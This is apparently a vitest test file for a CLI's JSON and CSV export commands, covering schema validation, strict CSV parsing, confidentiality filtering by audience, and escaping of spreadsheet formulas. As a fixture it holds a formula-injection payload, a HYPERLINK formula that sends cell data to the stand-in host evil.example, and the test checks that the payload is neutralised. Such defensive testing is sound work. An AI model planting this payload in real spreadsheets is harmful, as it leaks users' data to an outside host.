// `seam export json` and `seam export csv <register>`: the record graph validates against its committed
// JSON Schema and exports byte-identically; every register parses back (with a strict RFC 4180 parser,
// below) to the records it came from; a hostile cell comes out inert in a spreadsheet; and both formats
// hold nothing above the audience, exactly as the site: no record above it, and no name looked up from one.
import { readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { Ajv } from 'ajv';
import addFormats from 'ajv-formats';
import { afterAll, describe, expect, it } from 'vitest';
import { csvField } from '../../src/export/csv.ts';
import { registers } from '../../src/export/registers.ts';
import { loadGraph } from '../../src/model/graph.ts';
import type * as S from '../../src/model/schemas.ts';
import { contentMin, EXAMPLE_CONTENT, EXAMPLE_GRAPH, REPO } from '../helpers/content.ts';
import { seam, seamProcess } from '../helpers/cli.ts';

const made: string[] = [];
afterAll(() => made.forEach((d) => rmSync(d, { recursive: true, force: true })));

/**
 * A strict RFC 4180 parser: every record ends with CRLF, a quoted field doubles its quotes, and a quote
 * anywhere else, a bare CR or LF, or a row of the wrong width is an error, not a guess.
 */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    let field = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted field');
        if (text[i] === '"') {
          if (text[i + 1] === '"') { field += '"'; i += 2; continue; }
          i++;
          break;
        }
        field += text[i++];
      }
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\r') {
        if (text[i] === '"' || text[i] === '\n') throw new Error(`bare ${JSON.stringify(text[i])} in an unquoted field at ${i}`);
        field += text[i++];
      }
    }
    row.push(field);
    if (text[i] === ',') { i++; continue; }
    if (text.slice(i, i + 2) !== '\r\n') throw new Error(`expected CRLF at ${i}`);
    i += 2;
    rows.push(row);
    row = [];
  }
  if (row.length) throw new Error('the last record has no CRLF');
  const width = rows[0]?.length;
  rows.forEach((r, n) => { if (r.length !== width) throw new Error(`row ${n} has ${r.length} fields, the header ${width}`); });
  return rows;
}

/** The CSV as objects keyed by the header. */
function table(text: string): Record<string, string>[] {
  const [header, ...rows] = parseCsv(text);
  return rows.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]!])));
}

const HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Click")';

const withClassification = (text: string, classification: string) => text.replace(/^---\n/, `---\nclassification: ${classification}\n`);

/**
 * content-min with a public project (charter, plan, first status report, evaluation), a hostile issue
 * title and action, an overspent budget line, and above the public audience: the stakeholder register
 * (internal), a later status report and the provider's record (confidential).
 */
function fixture(): string {
  const dir = contentMin();
  made.push(dir);
  const project = join(dir, 'projects/crm-merge');
  const edit = (file: string, change: (text: string) => string) => writeFileSync(join(project, file), change(readFileSync(join(project, file), 'utf8')));
  edit('index.mdx', (t) => withClassification(t, 'public'));
  edit('plan.mdx', (t) => withClassification(t, 'public').replace('amount: 30000\n', 'amount: 30000\n    actual: 31500\n'));
  edit('evaluations/bridgeworks-2026-q2.mdx', (t) => withClassification(t, 'public'));
  const june = readFileSync(join(project, 'status/2026-06-01.mdx'), 'utf8');
  edit('status/2026-06-01.mdx', (t) =>
    withClassification(t, 'public').replace('    due: 2026-06-20\n', `    due: 2026-06-20\n  - id: hostile\n    title: '${HOSTILE}'\n    severity: low\n    action: '-1+2, "quoted", @SUM(A1)'\n`),
  );
  writeFileSync(join(project, 'status/2026-07-01.mdx'), withClassification(june, 'confidential').replace('date: 2026-06-01', 'date: 2026-07-01').replace('Irish address format not mapped', 'Board-only matter'));
  writeFileSync(join(dir, 'providers/bridgeworks.mdx'), withClassification(readFileSync(join(dir, 'providers/bridgeworks.mdx'), 'utf8'), 'confidential'));
  return dir;
}

const run = (dir: string, args: string[], env: NodeJS.ProcessEnv = {}) => seam([...args, '--content', dir], { cwd: dir, env });

describe('seam export json', () => {
  it('validates against the committed JSON Schema, for every audience, on the example organisation', async () => {
    const ajv = new Ajv({ allErrors: true, strict: false });
    (addFormats as unknown as (a: Ajv) => void)(ajv);
    const validate = ajv.compile(JSON.parse(readFileSync(join(REPO, 'schemas/seam-export.schema.json'), 'utf8')));
    const graph = await loadGraph(EXAMPLE_CONTENT, EXAMPLE_GRAPH);
    for (const audience of ['public', 'internal', 'confidential']) {
      const r = await seam(['export', 'json', '--audience', audience]);
      expect(r.code).toBe(0);
      const document = JSON.parse(r.stdout);
      validate(document);
      expect(validate.errors ?? [], audience).toEqual([]);
      expect(document.audience).toBe(audience);
      if (audience === 'confidential') expect(document.records.map((x: { file: string }) => x.file)).toEqual(graph.records.map((x) => x.file));
    }
    // The schema is strict: a record with a field the export does not define, or a wrong type, fails.
    const one = JSON.parse((await seam(['export', 'json', '--audience', 'confidential'])).stdout);
    expect(validate({ ...one, records: [{ ...one.records[0], secret: 1 }] })).toBe(false);
    expect(validate({ ...one, records: [{ ...one.records[0], type: 'plan' }] })).toBe(false);
  });

  it('writes the same bytes for the same content, in-process and as the real command', async () => {
    const a = await seam(['export', 'json', '--audience', 'confidential']);
    const b = await seam(['export', 'json', '--audience', 'confidential']);
    expect(a.stdout).toBe(b.stdout);
    const c = seamProcess(['export', 'json', '--audience', 'confidential']);
    expect(c.code).toBe(0);
    expect(c.stdout).toBe(a.stdout);
  });

  it('holds each record\'s id, type, project, file, page address and validated frontmatter', async () => {
    const dir = fixture();
    const document = JSON.parse((await run(dir, ['export', 'json', '--audience', 'confidential'])).stdout);
    const plan = document.records.find((r: { type: string }) => r.type === 'plan');
    expect(plan).toMatchObject({ id: 'crm-merge/plan', project: 'crm-merge', file: 'projects/crm-merge/plan.mdx', href: '/projects/crm-merge/plan/', classification: 'public', title: 'CRM merge plan' });
    expect(plan.data.budget[1]).toEqual({ line: 'licences', title: 'CRM licences', amount: 30000, actual: 31500 });
    // Defaults are filled in, as the site reads them.
    expect(plan.data.milestones[0].dependsOn).toEqual([]);
    const provider = document.records.find((r: { type: string }) => r.type === 'providers');
    expect(provider).toMatchObject({ id: 'bridgeworks', project: null, href: '/providers/bridgeworks/', classification: 'confidential' });
  });

  it('leaves out every record above the audience, and fails closed to public when none is named', async () => {
    const dir = fixture();
    const confidential = (await run(dir, ['export', 'json', '--audience', 'confidential'])).stdout;
    expect(confidential).toContain('Board-only matter');
    expect(confidential).toContain('Bridgeworks Integration Ltd');
    for (const r of [await run(dir, ['export', 'json', '--audience', 'public']), await run(dir, ['export', 'json']), await run(dir, ['export', 'json'], { SEAM_AUDIENCE: 'public' })]) {
      expect(r.code).toBe(0);
      const document = JSON.parse(r.stdout);
      expect(document.audience).toBe('public');
      expect(document.records.every((x: { classification: string }) => x.classification === 'public')).toBe(true);
      expect(document.records.map((x: { file: string }) => x.file)).toContain('projects/crm-merge/status/2026-06-01.mdx');
      // The confidential report, the provider's record (its title, its contacts) and the internal register's names.
      for (const secret of ['Board-only matter', '2026-07-01', 'Bridgeworks Integration Ltd', 'Priya Shah', 'Ana Lopez', 'Sean Byrne']) expect(r.stdout).not.toContain(secret);
    }
    expect((await run(dir, ['export', 'json'])).stderr).toContain('fails closed');
    const internal = JSON.parse((await run(dir, ['export', 'json'], { SEAM_AUDIENCE: 'internal' })).stdout);
    expect(internal.audience).toBe('internal');
    expect(internal.records.map((x: { type: string }) => x.type)).toContain('stakeholders');
  });
});

describe('seam export csv', () => {
  it('writes each register of the example organisation as strict RFC 4180, one row per item, with the documented columns', async () => {
    const graph = await loadGraph(EXAMPLE_CONTENT, EXAMPLE_GRAPH);
    const plans = [...graph.projects.values()].map((p) => p.plan?.data).filter((p): p is S.Plan => p !== undefined);
    const evaluations = [...graph.projects.values()].flatMap((p) => p.evaluations);
    const expected: Record<string, number> = {
      milestones: plans.reduce((n, p) => n + p.milestones.length, 0),
      budget: plans.reduce((n, p) => n + p.budget.length + 1, 0),
      'provider-scores': evaluations.length,
    };
    for (const register of registers) {
      const r = await seam(['export', 'csv', register.name, '--audience', 'confidential']);
      expect(r.code, r.stderr).toBe(0);
      const [header, ...rows] = parseCsv(r.stdout);
      expect(header).toEqual(register.columns.map((c) => c.name));
      expect(header!.slice(0, 2)).toEqual(['project', 'record']);
      expect(rows.length, register.name).toBeGreaterThan(0);
      if (expected[register.name] !== undefined) expect(rows.length, register.name).toBe(expected[register.name]);
      // Numeric columns hold numbers (or nothing), never text.
      register.columns.forEach((c, i) => { if (c.numeric) for (const row of rows) expect(row[i]!, `${register.name}.${c.name}`).toMatch(/^(-?\d+(\.\d+)?)?$/); });
    }
  });

  it('reads back as the records it came from', async () => {
    const dir = fixture();
    const graph = await loadGraph(dir);
    const project = graph.projects.get('crm-merge')!;
    const latest = project.status.at(-1)!.data!;

    const issues = table((await run(dir, ['export', 'csv', 'issues', '--audience', 'confidential'])).stdout);
    expect(issues.map((r) => r.issue)).toEqual(['address-format', 'hostile']);
    const address = latest.issues.find((i) => i.id === 'address-format')!;
    expect(issues[0]).toEqual({
      project: 'crm-merge', record: 'crm-merge/status/2026-07-01', issue: address.id, title: address.title, severity: address.severity, state: 'open',
      owner: 'sean-byrne', owner_name: 'Sean Byrne', action: address.action, due: address.due, closed: '', budget_line: '', milestone: '',
      first_reported: '2026-06-01', last_reported: '2026-07-01',
    });

    const budget = table((await run(dir, ['export', 'csv', 'budget', '--audience', 'confidential'])).stdout);
    const plan = project.plan!.data!;
    expect(budget.map((r) => [r.kind, r.line, Number(r.amount), r.actual === '' ? undefined : Number(r.actual)])).toEqual([
      ...plan.budget.map((b) => ['line', b.line, b.amount, b.actual]),
      ['contingency', '', plan.contingency, undefined],
    ]);
    // An overspent line's remaining amount is a negative number, not neutralised text.
    expect(budget.find((r) => r.line === 'licences')!.remaining).toBe('-1500');

    const scores = table((await run(dir, ['export', 'csv', 'provider-scores', '--audience', 'confidential'])).stdout);
    const evaluation = project.evaluations[0]!.data!;
    expect(scores).toEqual([{
      project: 'crm-merge', record: 'crm-merge/evaluations/bridgeworks-2026-q2', provider: 'bridgeworks', provider_name: 'Bridgeworks Integration Ltd', period: '2026-Q2',
      evaluator: 'ana-lopez', evaluator_name: 'Ana Lopez', ...Object.fromEntries(Object.entries(evaluation.scores).map(([k, v]) => [k, String(v)])), average: '4.2', actions: '1', open_actions: '1',
    }]);

    const milestones = table((await run(dir, ['export', 'csv', 'milestones', '--audience', 'confidential'])).stdout);
    expect(milestones.map((r) => r.milestone)).toEqual(plan.milestones.map((m) => m.id));
    expect(milestones.find((r) => r.milestone === 'all-regions')?.state).toBe('at-risk');

    const actions = table((await run(dir, ['export', 'csv', 'actions', '--audience', 'confidential'])).stdout);
    expect(actions).toEqual([expect.objectContaining({ source: 'provider-action', record: 'crm-merge/evaluations/bridgeworks-2026-q2', action: 'Send a weekly written summary', owner: 'ana-lopez', due: '2026-07-15', state: 'open' })]);
  });

  it('neutralises cells a spreadsheet would run as a formula, keeping them readable', async () => {
    const dir = fixture();
    const r = await run(dir, ['export', 'csv', 'issues', '--audience', 'public']);
    const hostile = table(r.stdout).find((row) => row.issue === 'hostile')!;
    expect(hostile.title).toBe(`'${HOSTILE}`);
    expect(hostile.action).toBe('\'-1+2, "quoted", @SUM(A1)');
    // No field in the file starts with a formula character.
    for (const row of parseCsv(r.stdout)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(r.stdout).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""Click"")"`);
    for (const start of ['=', '+', '-', '@', '\t', '\r', '\0']) expect(csvField(`${start}1`).replace(/^"/, '')).toMatch(/^'/);
    expect(csvField(-1500)).toBe('-1500');
    expect(csvField('a "b", c')).toBe('"a ""b"", c"');
    expect(csvField(undefined)).toBe('');
  });

  it('holds nothing above the audience: no row from a record above it, no name looked up from one', async () => {
    const dir = fixture();
    for (const name of registers.map((x) => x.name)) {
      const confidential = await run(dir, ['export', 'csv', name, '--audience', 'confidential']);
      const open = await run(dir, ['export', 'csv', name]);
      expect(open.code).toBe(0);
      expect(open.stderr).toContain('public audience');
      for (const secret of ['Board-only matter', '2026-07-01', 'Bridgeworks Integration Ltd', 'Ana Lopez', 'Sean Byrne']) expect(open.stdout, name).not.toContain(secret);
      expect(parseCsv(open.stdout)[0]).toEqual(parseCsv(confidential.stdout)[0]);
    }
    const issues = table((await run(dir, ['export', 'csv', 'issues'])).stdout);
    expect(issues[0]).toMatchObject({ issue: 'address-format', record: 'crm-merge/status/2026-06-01', title: 'Irish address format not mapped', owner: 'sean-byrne', owner_name: '' });
    const scores = table((await run(dir, ['export', 'csv', 'provider-scores'])).stdout);
    expect(scores[0]).toMatchObject({ provider: 'bridgeworks', provider_name: '', evaluator_name: '' });
    // The public project's milestone at risk comes from the latest report the audience may read.
    const confidentialOnly = table((await run(dir, ['export', 'csv', 'issues'], { SEAM_AUDIENCE: 'confidential' })).stdout);
    expect(confidentialOnly.map((r) => r.title)).toContain('Board-only matter');
  });

  it('documents every register and column in the handbook page for programme offices', () => {
    const page = readFileSync(join(EXAMPLE_CONTENT, 'docs/exports.mdx'), 'utf8');
    for (const register of registers) {
      const section = page.split(`### ${register.name}\n`)[1]?.split('\n### ')[0] ?? '';
      expect(section, register.name).toContain(register.summary);
      expect([...section.matchAll(/^\| `([a-z_]+)` \|/gm)].map((m) => m[1]), register.name).toEqual(register.columns.map((c) => c.name));
    }
  });

  it('names on standard error, and leaves out, a record it may show whose frontmatter fails its schema', async () => {
    const dir = fixture();
    const plan = join(dir, 'projects/crm-merge/plan.mdx');
    writeFileSync(plan, readFileSync(plan, 'utf8').replace('currency: GBP', 'currency: pounds'));
    for (const args of [['export', 'csv', 'budget'], ['export', 'json']]) {
      const r = await run(dir, args);
      expect(r.code).toBe(0);
      expect(r.stderr).toContain('1 record failed its schema and is left out of the export: projects/crm-merge/plan.mdx');
      expect(r.stdout).not.toContain('Data migration services');
    }
  });

  it('is a usage error, exit 2 and no stack, for a missing or unknown register or a bad audience', async () => {
    for (const args of [['export', 'csv'], ['export', 'csv', 'risks']]) {
      const r = await seam(args);
      expect(r.code).toBe(2);
      expect(r.stdout).toBe('');
      for (const name of registers.map((x) => x.name)) expect(r.stderr).toContain(name);
      expect(r.stderr).not.toMatch(/\bat .*\.ts:\d+/);
    }
    expect((await seam(['export', 'csv', 'risks'])).stderr).toContain('There is no register "risks"');
    const bad = await seam(['export', 'csv', 'issues', '--audience', 'everyone']);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toContain('public, internal, confidential');
    const env = await seam(['export', 'json'], { env: { SEAM_AUDIENCE: 'everyone' } });
    expect(env.code).toBe(2);
    expect(env.stderr).toContain('SEAM_AUDIENCE is "everyone"');
    expect(env.stdout).toBe('');
  });
});
